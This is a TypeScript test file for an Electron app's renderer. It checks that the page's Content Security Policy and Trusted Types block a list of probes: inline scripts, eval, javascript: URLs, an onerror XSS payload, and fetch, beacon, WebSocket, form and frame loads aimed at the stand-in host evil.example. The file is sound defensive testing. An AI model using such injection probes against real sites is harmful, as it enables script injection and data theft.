/**
 * Item 7 of Electron's security checklist, by its effect: the built page in Chromium, and everything that a page must not load or
 * run tried in it. Each is blocked, and the browser says by which directive. The page comes through the loopback door,
 * whose answers carry the same headers as those of the app's own protocol.
 */
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Door, openDoor } from '../../src/web/door.ts'
import { builtFolder } from '../kit/electron-program.ts'
import { launchChromium, noChromium } from '../kit/electron-stand-in/chromium.ts'

let door: Door
let browser: Browser
let page: Page
const wentOut: string[] = []

beforeAll(async () => {
  if (noChromium) return
  door = await openDoor({ root: join(builtFolder, 'renderer'), onPage: () => undefined })
  browser = await launchChromium()
  page = await browser.newPage()
  await page.route(/evil\.example/, (route) => {
    wentOut.push(route.request().url())
    return route.fulfill({
      status: 200,
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: '0',
    })
  })
  await page.goto(door.address)
})
afterAll(async () => {
  await browser?.close()
  await door?.close()
})

/** What a probe does, as the body of a function in the page, and the directives that may be named for it. */
const probes: Readonly<Record<string, readonly [body: string, ...directives: string[]]>> = {
  'a script in the page': ['add("script", { text: "window.ran = 1" })', 'require-trusted-types-for', 'script-src-elem'],
  'a handler in an attribute': [
    'make("b").setAttribute("onclick", "window.ran = 1")',
    'require-trusted-types-for',
    'script-src-attr',
  ],
  eval: ['(0, eval)("window.ran = 1")', 'script-src', 'require-trusted-types-for'],
  'new Function': ['new Function("window.ran = 1")()', 'script-src', 'require-trusted-types-for'],
  'setTimeout of a text': ['setTimeout("window.ran = 1")', 'script-src', 'require-trusted-types-for'],
  'a script from elsewhere': [
    'add("script", { src: "https://evil.example/a.js" })',
    'script-src-elem',
    'require-trusted-types-for',
  ],
  'a script from data': [
    'add("script", { src: "data:text/javascript,window.ran=1" })',
    'script-src-elem',
    'require-trusted-types-for',
  ],
  'an import from elsewhere': [
    'import("https://evil.example/a.js").catch(() => 0)',
    'script-src-elem',
    'require-trusted-types-for',
  ],
  'a worker from elsewhere': ['new Worker("https://evil.example/a.js")', 'worker-src', 'require-trusted-types-for'],
  'compiled WebAssembly': [
    'WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).catch(() => 0)',
    'script-src',
  ],
  'a javascript: address': [
    'location.href = "javascript:window.ran=1"',
    'script-src-elem',
    'require-trusted-types-for',
  ],
  'a link to javascript:': [
    'add("a", { href: "javascript:window.ran=1" }).click()',
    'script-src-elem',
    'require-trusted-types-for',
  ],
  'a picture from elsewhere': ['add("img", { src: "https://evil.example/a.png" })', 'img-src'],
  'a film from elsewhere': ['add("video", { src: "https://evil.example/a.mp4" })', 'media-src'],
  'a font from elsewhere': ['new FontFace("a", "url(https://evil.example/a.woff2)").load().catch(() => 0)', 'font-src'],
  'a style sheet from elsewhere': [
    'add("link", { rel: "stylesheet", href: "https://evil.example/a.css" })',
    'style-src-elem',
  ],
  'a style sheet in the page': ['add("style", { textContent: "* { color: red }" })', 'style-src-elem'],
  'a style in an attribute': ['add("b").setAttribute("style", "color: red")', 'style-src-attr'],
  fetch: ['fetch("https://evil.example/").catch(() => 0)', 'connect-src'],
  XMLHttpRequest: ['const x = new XMLHttpRequest(); x.open("GET", "https://evil.example/"); x.send()', 'connect-src'],
  'a beacon': ['navigator.sendBeacon("https://evil.example/", "a")', 'connect-src'],
  'a socket': ['new WebSocket("wss://evil.example/")', 'connect-src'],
  'a stream of events': ['new EventSource("https://evil.example/")', 'connect-src'],
  'another base of addresses': ['document.head.append(make("base", { href: "https://evil.example/" }))', 'base-uri'],
  'a form that is sent elsewhere': [
    'const f = add("form", { action: "https://evil.example/", method: "post" }); f.submit()',
    'form-action',
  ],
  'a form that is sent here': ['const f = add("form", { action: "/", method: "post" }); f.submit()', 'form-action'],
  'a frame from elsewhere': ['add("iframe", { src: "https://evil.example/" })', 'frame-src'],
  'a frame of our own': ['add("iframe", { src: "/index.html" })', 'frame-src'],
  'an object': ['add("object", { data: "https://evil.example/a.swf" })', 'object-src', 'require-trusted-types-for'],
  'an embedded thing': [
    'add("embed", { src: "https://evil.example/a.pdf" })',
    'object-src',
    'require-trusted-types-for',
  ],
  'another policy of trusted types': [
    'trustedTypes.createPolicy("evil", { createHTML: (html) => html })',
    'trusted-types',
  ],
}

const helpers = `
  const make = (name, properties = {}) => Object.assign(document.createElement(name), properties)
  const add = (name, properties) => { const made = make(name, properties); document.body.append(made); return made }
`

/** The directives that blocked something while the probe ran. */
async function violations(body: string): Promise<string[]> {
  // Of the developer tools a text may be run; that the probe does not run by their leave, it waits for a turn of its own.
  return page.evaluate(`new Promise((resolve) => {
    const seen = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective))
    setTimeout(() => setTimeout(() => resolve(seen), 150))
    setTimeout(() => { ${helpers}; ${body} })
  })`)
}

describe.skipIf(noChromium)(`the built page blocks${noChromium ? ` (skipped: ${noChromium})` : ''}`, () => {
  test.each(Object.entries(probes).map(([what, probe]) => [what, probe] as const))(
    '%s',
    async (_, [body, ...directives]) => {
      const seen = await violations(body)
      expect(seen.length, 'nothing was blocked').toBeGreaterThan(0)
      expect(seen.filter((directive) => !directives.includes(directive))).toEqual([])
      expect(await page.evaluate('window.ran')).toBeUndefined()
    },
  )

  test.each([
    ['text as markup', 'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=window.ran=1>")'],
    ['a frame with a text', 'document.createElement("iframe").srcdoc = "<script>window.ran=1</script>"'],
    ['a document that is written', 'document.write("<script>window.ran=1</script>")'],
  ])('%s, by the one policy of trusted types', async (_, body) => {
    const thrown = await page.evaluate(`(() => { try { ${body} } catch (error) { return error.name } })()`)
    expect(thrown).toBe('TypeError')
    expect(await page.evaluate('window.ran')).toBeUndefined()
  })

  test('a script that was put together of text nodes', async () => {
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.append('window.ran = 1')
      document.body.append(script)
    })
    expect(await page.evaluate('window.ran')).toBeUndefined()
  })

  test('what would run in a page without a policy', async () => {
    const other = await browser.newPage()
    await other.route('http://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: '<body>' }))
    await other.goto('http://evil.example/')
    for (const what of [
      'a script in the page',
      'eval',
      'new Function',
      'setTimeout of a text',
      'a javascript: address',
    ]) {
      await other.evaluate(`window.ran = 0; ${helpers}; ${probes[what]?.[0]}`)
      await expect.poll(() => other.evaluate('window.ran'), { message: what }).toBe(1)
    }
    await other.close()
  })

  test('being framed by another page', async () => {
    const other = await browser.newPage()
    await other.route('http://evil.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${door.address}"></iframe>` }),
    )
    await other.goto('http://evil.example/')
    const [, frame] = other.frames()
    expect(frame?.url()).toMatch(/^chrome-error:/)
    await other.close()
  })

  test('all of it before anything went out, and is still there', async () => {
    expect(wentOut).toEqual([])
    expect(page.url()).toBe(new URL('/', door.address).href)
    expect(await page.locator('#studio').count()).toBe(1)
  })
})
